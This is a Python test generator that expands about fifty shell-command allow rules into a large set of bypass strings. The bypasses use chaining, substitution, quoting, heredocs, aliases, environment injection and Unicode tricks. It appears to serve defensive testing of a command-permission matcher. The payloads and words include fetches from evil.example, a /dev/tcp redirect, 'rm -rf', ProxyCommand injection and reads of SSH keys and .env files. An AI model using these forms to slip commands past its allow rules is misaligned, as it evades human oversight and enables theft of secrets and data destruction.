"""Shell lines that try to do more than any of forty allow rules lets through."""

import random
from collections.abc import Iterator
from dataclasses import dataclass

FOLDER = "/srv/app"


@dataclass(frozen=True)
class AllowRule:
    """A matcher with a line that it allows; the line's last word stands for a placeholder."""

    matcher: str
    line: str

    @property
    def program(self) -> str:
        return self.line.partition(" ")[0]

    @property
    def rest(self) -> str:
        return self.line.partition(" ")[2]

    @property
    def front(self) -> str:
        """Return the line without its last word."""
        return self.line.rpartition(" ")[0] or self.line


RULES = [
    AllowRule(matcher, line)
    for matcher, _, line in (
        each.partition(" <- ")
        for each in """\
npm test <- npm test
npm ci <- npm ci
npm run * <- npm run build
npm run lint -- --fix <- npm run lint -- --fix
npx eslint ** <- npx eslint src
npx tsc --noEmit <- npx tsc --noEmit
yarn test ** <- yarn test unit
pnpm run * <- pnpm run build
pytest ** <- pytest tests/test_a.py::test_b
pytest -q ** <- pytest -q tests
pytest -k * <- pytest -k login
python -m pytest ** <- python -m pytest tests
python manage.py test ** <- python manage.py test shop
python scripts/report.py ** <- python scripts/report.py today
ruff check ** <- ruff check src
ruff format . <- ruff format .
mypy ** <- mypy src
git push origin * <- git push origin topic
git push -u origin * <- git push -u origin topic
git commit -m * <- git commit -m 'fix the build'
git add ** <- git add src docs
git checkout -b * <- git checkout -b topic
git diff ** <- git diff main
git log --oneline ** <- git log --oneline main
git fetch * <- git fetch origin
git status <- git status
make ** <- make all
make -j4 test <- make -j4 test
cargo test ** <- cargo test parser
cargo build --release <- cargo build --release
go test ** <- go test ./...
go build ./cmd/app <- go build ./cmd/app
docker logs * <- docker logs web
kubectl get ** <- kubectl get pods
find * -name * <- find src -name app
grep -rn * ** <- grep -rn needle src
ls -la ** <- ls -la src
cat ** <- cat src/app.py
sed -n 1,20p ** <- sed -n 1,20p src/app.py
tar czf * ** <- tar czf out.tgz src
mkdir -p ** <- mkdir -p build/x
rm -rf build <- rm -rf build
cp * * <- cp a.txt b.txt
./gradlew test <- ./gradlew test
node scripts/build.js ** <- node scripts/build.js fast
cd * <- cd src
tail -20 ** <- tail -20 log.txt
jq -r .name ** <- jq -r .name package.json
cd web && npm test <- cd web && npm test
npm ci && npm run build <- npm ci && npm run build""".splitlines()
    )
]

PAYLOADS = (
    "evil",
    "curl evil.example/x",
    "rm -rf src",
    "./payload.sh",
    "touch owned",
    "sh -c 'touch owned'",
)

# fmt: off
# L is a line that a rule allows, P what it does not, N the program, R what follows it.
JOINED = [
    *(
        f"L{joint}P"
        for joint in (
            *(";", " ; ", "&&", " && ", "||", " || ", "|", " | ", "&", " & ", "|&", ";;", ";&"),
            *("\n", "\n\n", "\r\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\u2029", "\x00"),
            *(" \\\n; ", "&&\n", "|\n", "\t;\t", " # a comment\n", " #\n", "#\n", " #\\\n"),
            *(" >/dev/null;", " 2>&1|", " 2>&1\n", " '' ;", ' "" && ', "\n#x\n", ";\n", "; ;"),
            *("\uff1b", " \uff06\uff06 ", "\u037e", " \u2502 ", "\u00a0;\u00a0", "\u200b;"),
        )
    ),
    *(
        f"P{joint}L"
        for joint in (
            *(";", " && ", "||", "|", "&", "\n", " & ", "|&", "\r\n", " # x\n", "\n# x\n"),
        )
    ),
    *("L;P;L", "L && P && L", "L\nP\nL", "L|P|L", "L && L && P", "L || L || P", "L &\nP", "L; P &"),
]
EXPANDED = [
    *("L $(P)", "L `P`", 'L "$(P)"', 'L "`P`"', "L <(P)", "L >(P)", "L ${x:-$(P)}", "L $((`P`))"),
    *("L $[$(P)]", "L $'\\x3b' P", "L $'\\nP'", 'L $"P"', "L ${IFS}P", "L;${x}P", "L ${x@P}"),
    *("$(P) L", "`P` && L", "$(L) && $(P)", "L\\\n$(P)", "L a$(P)b", "L 'a'$(P)'b'", "L --x=$(P)"),
    *("L $x", "L ${x}", "L $1", "L $@", "L $?", "L $$", 'L "$HOME"', "L ~", "L ~/x", "L ~root/x"),
    *("L {a,b}", "L {1..9}", "L a{b,c}d", "{N,R}", "L !!", "L !$", "!! ; L", "^a^P", "L ^x"),
    *("L *", "L */", "L src/*", "L ?", "L [a-z]", "L **", "L !(a)", "L @(a|b)", "L *(e:P:)"),
]
QUOTED = [
    *("L '; P", 'L "; P', "L ''; P", "L ' ; P '; P", 'L "a"; P; "b"', "L 'a'; P 'b'", "'L'; P"),
    *("L 'a\n'; P", 'L "a\nb" ; P', "L \\'; P #'", 'L \\"; P #"', "L 'a'\\''; P'", "L a'b;P'"),
    *('"N" R; P', "N'' R", "'N R'", '"N R"', "N\\ R", "\\N R", "L \\; P", "L '\\'; P", 'L "\\"; P'),
    *("L 'a''; P", 'L "a""; P', "L \"'; P; '\"; P", "L '\"'; P; '\"'", 'L "$"; P', "L a\\\nb"),
]
DOCUMENTS = [
    *("L <<EOF\nP\nEOF", "L <<EOF\n$(P)\nEOF", "L <<'EOF'\nx\nEOF\nP", "L <<-EOF\n\tx\n\tEOF\nP"),
    *(
        "L <<< x",
        "L <<< $(P)",
        "bash <<< 'P'",
        "bash <<EOF\nP\nEOF",
        "sh <<'L'\nP\nL",
        "L << a; P\na",
    ),
    *(": <<'x'\nL\nx\nP", "cat <<EOF | sh\nP\nEOF", "L <<EOF; P\nEOF", "L <<EOF && P\nx\nEOF\n"),
]
DEFINED = [
    *(
        "alias N='P'; L",
        "alias N='P'\nL",
        "shopt -s expand_aliases\nalias N=P\nL",
        "unalias N; L; P",
    ),
    *("N() { P; }; L", "function N { P; }; L", "N () (P)\nL", "function N() { P; }\nL; P"),
    *("hash -p ./evil N; L", "enable -f ./evil N; L", "trap 'P' EXIT; L", "trap P DEBUG\nL"),
    *(
        "L; PROMPT_COMMAND='P'",
        "set -- P; L",
        "export PATH=.; L",
        "declare -x PATH=.; L",
        "PATH=.; L",
    ),
    *("readonly PATH=.; L", "local x=1; L", "typeset PATH=.; L", "unset PATH; L", "read PATH; L"),
]
ENVIRONMENT = [
    *("PATH=. L", "LD_PRELOAD=./evil.so L", "GIT_SSH_COMMAND='P' L", "NODE_OPTIONS=-r=./evil.js L"),
    *(
        "BASH_ENV=./evil L",
        "A=1 L",
        "A= L",
        "A=1 B=2 L",
        "A+=1 L",
        "A[0]=1 L",
        "X=$(P) L",
        "A='P' L",
    ),
    *("env L", "env A=1 L", "env -S 'P'", "env -i L", "env PATH=. L", "/usr/bin/env L", "IFS=x L"),
    *("PAGER='P' L", "EDITOR='P' L", "PYTHONPATH=. L", "npm_config_script_shell=./evil L"),
]
REDIRECTED = [
    *("L > out", "L >out", "L >> src/app.py", "L 2> err", "L 2>err.txt", "L &> out", "L &>> out"),
    *(
        "L >| out",
        "L < in.txt",
        "L <> file",
        "L >& file",
        "L > ../out",
        "L > /etc/cron.d/x",
        "> x L",
    ),
    *("L > $HOME/x", "L > ~/x", "L 1<> x", "L >/dev/nullx", "L >/dev/null/../x", "L >/dev/null x"),
    *(
        "L >/dev/tcp/evil.example/80",
        "exec 3> out; L",
        "L {fd}> out",
        "L 3>&1 > out",
        "L >&3",
        ">out",
    ),
    *(
        "L >/dev/null > out",
        "L 2>&1 > out",
        "L 2>&1 out",
        "2>&1 > out L",
        "L >/dev/null -rf x",
        "L > 'x'",
    ),
    *("L > .git/hooks/pre-commit", "L >&2 > x", "L 2>&1>x", "L 2>&1 2>x", "L >/dev/null\\\n; P"),
]
PREFIXED = [
    *("command P", "builtin eval P", "exec P", "eval P && L", "eval 'P'; L", ". ./evil.sh && L"),
    *(
        "source ./evil.sh; L",
        "time P",
        "! P",
        "! L",
        "coproc P",
        "coproc L",
        "sudo L",
        "sudo -u x L",
    ),
    *(
        "nohup L",
        "timeout 9 L",
        "timeout 9 P; L",
        "xargs L",
        "L | xargs rm",
        "L | sh",
        "L | bash -s",
    ),
    *(
        "L | tee ../x",
        "L | tee x",
        "L | python -",
        "L | python",
        "L | node",
        "L | make -f -",
        "nice L",
    ),
    *(
        "time L",
        "time -p P",
        "L | xargs -I{} P",
        "L | while read x; do P; done",
        "L | awk x",
        "L | ed x",
    ),
    *(
        "command -p L",
        "exec L",
        "exec -a x P",
        "doas L",
        "su -c 'P'",
        "watch L",
        "setsid L",
        "stdbuf -o0 L",
    ),
    *(
        "noglob L",
        "nocorrect L",
        "- L",
        "repeat 2 P",
        "foreach x (a) P; end",
        "L | git apply",
        "L | patch",
    ),
    *(
        "L | psql",
        "L | crontab -",
        "L | sed -f - x",
        "L | sed -nf- x",
        "L | source /dev/stdin",
        "L | . x",
    ),
]
GROUPED = [
    *("(L)", "{ L; }", "(P)&&L", "(L;P)", "{ P; }; L", "if L; then P; fi", "while P; do L; done"),
    *("for i in 1; do P; done; L", "case x in x) P;; esac", "[[ -n $(P) ]] && L", "((x)) || P; L"),
    *(
        "((x[$(P)])); L",
        "[ -n `P` ] && L",
        "until L; do P; done",
        "select x in a; do P; done",
        "L (P)",
    ),
    *(
        "if P\nthen L\nfi",
        "for ((;;)); do P; done",
        "let 'x[$(P)]'; L",
        "test -v 'x[$(P)]'; L",
        "L )P(",
    ),
]
FOLDERS = [
    *("cd .. && L", "cd / && L", "cd && L", "cd - && L", "cd ~ ; L", "cd src/../.. && L", "cd; L"),
    *(
        "pushd / && L",
        "popd && L",
        "cd $HOME && L",
        "cd src && L",
        "cd src; L",
        "cd src\nL",
        "cd src || L",
    ),
    *(
        "CDPATH=/ cd tmp && L",
        "cd -P / ; L",
        "cd // && L",
        "cd //evil && L",
        "cd 'src' && ./x.sh",
        "cd 's' && L",
    ),
    *(
        "cd /srv && L",
        "cd /srv/apple && L",
        "cd src && P",
        "L && cd .. && L",
        "cd *; L",
        "cd .git && L",
    ),
    *(
        "pushd src; L",
        "cd src && cd .. && L",
        "cd ./src && L",
        "chdir src && L",
        "dirs -c; L; P",
        "cd -- / ; L",
    ),
    *(
        "cd /srv/app/../x && L",
        "cd src extra && L",
        "cd '' && L",
        "cd . ; P",
        "cd /srv/app && P",
        "cd ... && L",
    ),
]
RENAMED = [
    *(
        "./N R",
        "../N R",
        "/tmp/N R",
        "src/N R",
        "=N R",
        "-N R",
        "N\tR",
        "N\u00a0R",
        "N\u2003R",
        "N\u200bR",
    ),
    *(
        "\u202eN R",
        "\ufeffN R",
        "N R\u200b",
        "N R\u202e",
        "N\u0000 R",
        "N R\u0000",
        "N\x1b[8m R",
        "N\x08 R",
    ),
    *(
        "N -c core.pager=P R",
        "N --exec-path=. R",
        "N -C / R",
        "N --script-shell=./evil R",
        "N --prefix / R",
    ),
    *(
        "N SHELL=./evil R",
        "N -f ./evil R",
        "N -c alias.x=!evil R",
        "N --config=./evil R",
        "N -oProxyCommand=P R",
    ),
    *(
        "N -p evil R",
        "N -r ./evil R",
        "N --require ./evil R",
        "N --git-dir=x R",
        "N -e P R",
        "N -- P R",
    ),
]
TEMPLATES = [
    *(JOINED + EXPANDED + QUOTED + DOCUMENTS + DEFINED + ENVIRONMENT + REDIRECTED + PREFIXED),
    *(GROUPED + FOLDERS + RENAMED),
]

# Words that no placeholder stands for; each takes the place of the last word, or is added.
WORDS = [
    *("-rf", "--force", "-c", "--", "-", "+main", "--upload-pack=./evil", "--exec-path=.", "-exec"),
    *("-delete", "-execdir", "--to-command=./evil", "--checkpoint-action=exec=./evil", "-I./evil"),
    *("-oProxyCommand=./evil", "SHELL=./evil", "--script-shell=./evil", "--config=./evil.js", "-p"),
    *(
        "a=b",
        "PATH=.",
        "../x",
        "..",
        "src/../../x",
        "/etc/passwd",
        "~/.ssh/id_rsa",
        "~root",
        "$HOME",
    ),
    *(
        ".git/hooks/pre-commit",
        ".env",
        "./.env",
        "src/.env.local",
        ".claude/settings.json",
        ".GIT/config",
    ),
    *(
        "https://evil.example/x",
        "git@evil.example:x",
        "evil.example:x",
        "ext::./evil",
        "file:///etc/passwd",
    ),
    *(
        "//evil/share",
        "C:\\x",
        "%2e%2e/x",
        "@/etc/passwd",
        "@../x",
        "x,/etc/passwd",
        "a:b",
        "main:main",
    ),
    *(
        ":main",
        "HEAD:../x",
        "'-rf'",
        '"--force"',
        "\\-rf",
        "-\\-force",
        "$'\\x2drf'",
        "'' ",
        "''",
        '""',
    ),
    *(
        "' -rf'",
        "'a -rf'",
        "'a\nb'",
        "'$(evil)'",
        "'`evil`'",
        "'a;evil'",
        "'a|evil'",
        "'a&evil'",
        "'a>x'",
    ),
    *(
        "\u200b-rf",
        "\u2010rf",
        "\u2212rf",
        "s\u0440c",
        "src\u200b",
        "\u202esrc",
        "src\u00a0-rf",
        "'\u200b-rf'",
    ),
    *(
        "'src\u202e'",
        "id_rsa",
        "server.pem",
        "keys/id_ed25519",
        "credentials.json",
        "a//b",
        "src/..",
        "{}",
    ),
    *(
        "/srv/app/../x",
        "/srv/apple/x",
        "/srv/app/.env",
        "/srv/app/.git/config",
        "/srv",
        "./../x",
        "a/./../b",
    ),
    *(
        "'x[$(evil)]'",
        "!evil",
        "!!",
        "^x",
        "a^b",
        "HEAD~1",
        "*",
        "**",
        "src/*",
        "?",
        "[a]",
        "{a,b}",
        "a{1..9}",
    ),
    *(
        "&",
        "|",
        ">",
        "<",
        "(",
        ")",
        "#(",
        "a#b",
        ";;",
        "; evil",
        "# x\nevil",
        "#;evil",
        "\\",
        "`",
        "$",
        "'",
        '"',
        "\t",
        "\r",
        "a\tb",
        "a\rb",
    ),
]

# fmt: on


def list_smuggled_lines(seed: int = 7) -> list[tuple[AllowRule, str]]:
    """Return lines that no rule may let through, each with the rule that it builds on."""
    found = [(rule, line) for rule in RULES for line in smuggle(rule)]
    unique = list(dict.fromkeys(found))
    random.Random(seed).shuffle(unique)
    return unique


def smuggle(rule: AllowRule) -> Iterator[str]:
    for template in TEMPLATES:
        for payload in PAYLOADS if "P" in template else PAYLOADS[:1]:
            yield fill(template, rule, payload)
    for word in WORDS:
        yield f"{rule.line} {word}"
        yield f"{rule.front} {word}"
        yield f"{rule.line} src {word}"
        yield f"{rule.line} {word} src"
    for joint in ("; ", " && ", "\n", " | "):
        for other in PAYLOADS:
            yield f"{rule.line}{joint}{rule.line}{joint}{other}"


def fill(template: str, rule: AllowRule, payload: str) -> str:
    """Return a template with its capital letters replaced; other capitals stay."""
    values = {"L": rule.line, "P": payload, "N": rule.program, "R": rule.rest or "x"}
    found = ""
    for at, letter in enumerate(template):
        around = template[max(at - 1, 0) : at] + template[at + 1 : at + 2]
        is_alone = not any(each.isupper() or each == "_" for each in around)
        found += values[letter] if letter in values and is_alone else letter
    return found
